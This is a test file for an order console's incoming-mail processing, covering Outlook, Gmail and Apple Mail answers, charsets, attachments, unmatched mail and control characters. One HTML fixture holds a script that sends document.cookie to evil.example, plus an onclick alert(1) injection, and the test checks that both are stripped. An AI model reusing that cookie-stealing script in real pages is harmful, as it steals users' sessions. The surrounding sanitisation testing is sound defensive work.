// Answers as real mail clients write them, and the bad input a mailbox receives, fed to the
// console's mail processing (the IMAP round trip itself is in mail.test.ts): quoted history and
// signatures cut, charsets and transfer encodings read, photos kept, everything else refused or
// set aside with a reason, nothing executed and nothing doubled.
import { randomBytes } from "node:crypto";
import MailComposer from "nodemailer/lib/mail-composer";
import sharp from "sharp";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { OrderDetail } from "../../shared/contract";
import { plainText } from "../../shared/message-body";
import { valueOf } from "../fixtures/core";
import {
  base64Lines,
  clientMail,
  mailChannelOrder,
} from "../fixtures/mail-channel";

let order: Awaited<ReturnType<typeof mailChannelOrder>>;
let email: Awaited<ReturnType<typeof order.staffWrites>>;

beforeEach(async () => {
  order = await mailChannelOrder();
  email = await order.staffWrites(
    "Can you confirm the sheets arrive this week?",
    "cutr",
  );
});

afterEach(() => order.core.close());

/** A camera-like photo: noise, so it is as large as a real one and not a signature logo. */
const photo = async () =>
  sharp(randomBytes(480 * 360 * 3), {
    raw: { width: 480, height: 360, channels: 3 },
  })
    .jpeg({ quality: 90 })
    .toBuffer();

async function fromClient(name: string, extra: Record<string, string> = {}) {
  return clientMail(name, {
    from: order.partner.email,
    fromName: order.partner.name,
    to: email.headers.replyTo,
    inReplyTo: email.headers.messageId,
    subject: email.subject,
    photo: base64Lines(await photo()),
    ...extra,
  });
}

const lastCutrMessage = async () => (await order.messages("cutr")).at(-1);

const refusals = () =>
  order.db
    .selectFrom("outbox")
    .select(["recipient", "body"])
    .where("kind", "=", "attachment_refused")
    .execute();

describe("answers from the common mail clients", () => {
  it("reads Outlook's windows-1252 quoted-printable without its quoted history, and refuses its winmail.dat with an answer", async () => {
    expect(await order.arrives(await fromClient("outlook"))).toMatchObject({
      status: "posted",
    });
    const message = await lastCutrMessage();
    expect(message?.authorKind).toBe("partner");
    expect(plainText(message!.body)).toBe(
      "Goedemiddag,\n\nDe platen zijn binnen. De prijs blijft € 1.250 zoals afgesproken; we beginnen donderdag met zagen.\n\nMet vriendelijke groet,\nPiët de Groot",
    );
    expect(message?.attachments).toEqual([]);
    const [refused] = await refusals();
    expect(refused?.recipient).toBe(order.partner.email);
    expect(refused?.body).toContain("winmail.dat");
  });

  it("reads Gmail's answer without signature and quote, with its photo", async () => {
    await order.arrives(await fromClient("gmail"));
    const message = await lastCutrMessage();
    expect(plainText(message!.body)).toBe(
      "Ja, donderdag lukt. Zie de foto van de platen – ze liggen klaar.",
    );
    expect(message?.attachments.map((a) => a.name)).toEqual([
      "IMG_20261207_113501.jpg",
    ]);
    expect(await refusals()).toEqual([]);
  });

  it("reads Apple Mail's iso-8859-1 answer and keeps the photo placed inside its text", async () => {
    await order.arrives(await fromClient("apple-mail"));
    const message = await lastCutrMessage();
    expect(plainText(message!.body)).toBe(
      "Prima, de rand wordt eiken. Hierbij de foto van het blad.\n\nGroeten,\nJürgen",
    );
    expect(message?.attachments.map((a) => a.name)).toEqual(["IMG_0042.jpeg"]);
  });

  it("reads an HTML-only answer without its scripts, styles, tracking pixel or quoted history", async () => {
    const html = `<html><head><style>p { color: red } .hidden { display: none }</style>
<script>fetch("https://evil.example/steal?c=" + document.cookie)</script></head>
<body><p onclick="alert(1)">Ja, donderdag <b>lukt</b>.</p>
<img src="https://track.example/open.gif?u=42" width="1" height="1" alt="">
<div class="gmail_quote">Op ma 7 dec schreef Cutr:<blockquote>Can you confirm the sheets arrive this week?</blockquote></div>
</body></html>`;
    await order.arrives(
      await fromClient("html-only", {
        html: base64Lines(Buffer.from(html, "utf8")),
      }),
    );
    const text = plainText((await lastCutrMessage())!.body);
    expect(text).toBe("Ja, donderdag lukt.");
  });
});

describe("bad input in the mailbox", () => {
  it("posts the words of a mail with a 30 MB file that is no photo and a STEP model, and refuses both in one answer", async () => {
    const big = await new MailComposer({
      from: order.partner.email,
      to: email.headers.replyTo,
      subject: `Re: ${email.subject}`,
      inReplyTo: email.headers.messageId,
      text: "The scan and the model are attached.",
      attachments: [
        { filename: "IMG_2001.jpg", content: randomBytes(30 * 1024 * 1024) },
        {
          filename: "bracket.txt",
          content: Buffer.from("ISO-10303-21;\nHEADER;\nENDSEC;\n"),
        },
      ],
    })
      .compile()
      .build();
    expect(await order.arrives(big)).toMatchObject({ status: "posted" });
    const message = await lastCutrMessage();
    expect(plainText(message!.body)).toBe(
      "The scan and the model are attached.",
    );
    expect(message?.attachments).toEqual([]);
    const [refused, ...more] = await refusals();
    expect(more).toEqual([]);
    expect(refused?.body).toContain("IMG_2001.jpg, bracket.txt");
  });

  it("keeps an empty answer and an answer about a cancelled order in Unmatched mail", async () => {
    expect(
      await order.arrives(
        await order.answer(
          email,
          order.partner,
          "\n\nOn Mon, 7 Dec 2026, Cutr wrote:\n> Can you confirm the sheets arrive this week?",
        ),
      ),
    ).toMatchObject({ status: "unmatched", reason: "empty" });

    const detail = valueOf<OrderDetail>(
      await order.core.call("orders.get", { id: order.orderId }, order.staff),
    );
    valueOf(
      await order.core.call(
        "orders.cancel",
        {
          orderId: order.orderId,
          orderVersion: detail.version,
          reason: "The customer withdrew.",
        },
        order.staff,
      ),
    );
    expect(
      await order.arrives(
        await order.answer(email, order.partner, "Started cutting today."),
      ),
    ).toMatchObject({ status: "unmatched", reason: "orderCancelled" });
    const fromOutside = await order.db
      .selectFrom("messages")
      .select("id")
      .where("author_kind", "!=", "staff")
      .where("author_user_id", "is", null)
      .where("created_at", ">=", "2026-11-22T09:00:00.000Z")
      .execute();
    expect(fromOutside).toEqual([]);
  });

  it("stores a sender name and subject with control characters as text PostgreSQL accepts", async () => {
    const source = clientMail("html-only", {
      from: order.partner.email,
      fromName: "=?utf-8?B?SmFuAEJha2tlcg==?=",
      to: email.headers.replyTo,
      inReplyTo: email.headers.messageId,
      subject: "=?utf-8?B?T3JkZXIAAQI=?=",
      html: base64Lines(Buffer.from("<p>Klaar.</p>")),
    });
    expect(await order.arrives(source)).toMatchObject({ status: "posted" });
    const kept = await order.db
      .selectFrom("mail_in")
      .select(["from_name", "subject"])
      .executeTakeFirstOrThrow();
    expect(kept).toEqual({ from_name: "JanBakker", subject: "Re: Order" });
  });
});
